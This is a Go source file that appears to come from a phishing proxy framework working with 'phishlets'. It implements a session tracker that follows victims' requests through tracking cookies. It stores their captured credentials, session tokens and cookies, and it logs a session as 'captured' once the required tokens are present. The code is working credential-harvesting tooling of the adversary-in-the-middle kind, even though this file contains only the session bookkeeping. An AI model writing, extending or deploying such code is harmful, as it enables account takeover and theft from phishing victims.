package core

import (
	"context"
	"sync"
	"time"

	"github.com/snarelabs/snare/database/storage"
	"github.com/snarelabs/snare/log"
)

const (
	defaultSweepInterval = 1 * time.Minute
	defaultIdleTimeout   = 30 * time.Minute
)

// SessionTracker correlates inbound requests into sessions and owns the only
// mutable shared state in the pipeline. The table lock covers lookups;
// mutation of a session happens under that session's own lock, so concurrent
// traffic for unrelated victims never serializes.
type SessionTracker struct {
	sessions    map[string]*Session
	lock        sync.RWMutex
	idleTimeout time.Duration
	db          storage.Storage
	stopSweep   chan struct{}
	sweepOnce   sync.Once
}

func NewSessionTracker(idleTimeout time.Duration, db storage.Storage) *SessionTracker {
	if idleTimeout <= 0 {
		idleTimeout = defaultIdleTimeout
	}
	st := &SessionTracker{
		sessions:    make(map[string]*Session),
		idleTimeout: idleTimeout,
		db:          db,
		stopSweep:   make(chan struct{}),
	}
	go st.sweepLoop()
	return st
}

// Correlate resolves an inbound request to a session. A tracking key that
// maps to a live session wins; anything else creates a fresh session whose
// key the dispatcher issues back to the client as a cookie.
func (st *SessionTracker) Correlate(remoteAddr string, trackingKey string, phishlet string) (*Session, bool) {
	if trackingKey != "" {
		st.lock.RLock()
		s, ok := st.sessions[trackingKey]
		st.lock.RUnlock()
		if ok {
			s.lock.Lock()
			live := s.Status != StatusClosed
			if live {
				s.LastSeen = time.Now().UTC()
			}
			s.lock.Unlock()
			if live {
				return s, false
			}
		}
	}

	s := NewSession(phishlet)
	s.RemoteAddr = remoteAddr

	st.lock.Lock()
	st.sessions[s.Id] = s
	st.lock.Unlock()
	return s, true
}

func (st *SessionTracker) Get(id string) *Session {
	st.lock.RLock()
	defer st.lock.RUnlock()
	return st.sessions[id]
}

func (st *SessionTracker) List() []*Session {
	st.lock.RLock()
	defer st.lock.RUnlock()
	out := make([]*Session, 0, len(st.sessions))
	for _, s := range st.sessions {
		out = append(out, s)
	}
	return out
}

// Record merges extracted pairs into the session atomically under its lock.
// Mutating a closed session is a no-op. Returns true when the merge was
// applied.
func (st *SessionTracker) Record(id string, pl *Phishlet, creds map[string]string, tokens map[string]string, cookies []*CapturedCookie) bool {
	s := st.Get(id)
	if s == nil {
		return false
	}

	s.lock.Lock()
	defer s.lock.Unlock()

	if s.Status == StatusClosed {
		return false
	}
	for k, v := range creds {
		s.Credentials[k] = v
	}
	for k, v := range tokens {
		s.Tokens[k] = v
	}
	for _, cc := range cookies {
		s.addCookieToken(cc.Domain, cc.Cookie)
	}
	s.LastSeen = time.Now().UTC()

	if s.Status == StatusActive && len(s.Credentials) > 0 && len(s.Tokens) > 0 && pl.requiredTokensPresent(s.Tokens) {
		s.Status = StatusCaptured
		log.Success("[%s] session %s captured: %d credential(s), %d token(s)", s.Phishlet, truncateString(s.Id, 8), len(s.Credentials), len(s.Tokens))
	}
	return true
}

// Close marks a session closed. Closed is terminal; no later call reverses it.
// The terminal status is written through to storage.
func (st *SessionTracker) Close(id string) {
	s := st.Get(id)
	if s == nil {
		return
	}
	s.lock.Lock()
	transition := s.Status != StatusClosed
	s.Status = StatusClosed
	s.lock.Unlock()
	if transition {
		st.persistClosed(id)
	}
}

// Sweep closes every session idle past the tracker's timeout and returns how
// many it closed. Invoked from the sweep goroutine, not per request.
func (st *SessionTracker) Sweep() int {
	cutoff := time.Now().UTC().Add(-st.idleTimeout)

	var closed []string
	for _, s := range st.List() {
		s.lock.Lock()
		if s.Status != StatusClosed && s.LastSeen.Before(cutoff) {
			s.Status = StatusClosed
			closed = append(closed, s.Id)
		}
		s.lock.Unlock()
	}
	for _, id := range closed {
		st.persistClosed(id)
	}
	if len(closed) > 0 {
		log.Debug("session sweep: closed %d idle session(s)", len(closed))
	}
	return len(closed)
}

// persistClosed writes the terminal status through to storage so session
// listings never report a closed session as live.
func (st *SessionTracker) persistClosed(id string) {
	if st.db == nil {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), dbWriteTimeout)
	defer cancel()
	if err := st.db.UpdateStatus(ctx, id, StatusClosed); err != nil {
		log.Error("database: %v", err)
	}
}

func (st *SessionTracker) sweepLoop() {
	ticker := time.NewTicker(defaultSweepInterval)
	defer ticker.Stop()

	for {
		select {
		case <-ticker.C:
			st.Sweep()
		case <-st.stopSweep:
			return
		}
	}
}

func (st *SessionTracker) Stop() {
	st.sweepOnce.Do(func() {
		close(st.stopSweep)
	})
}
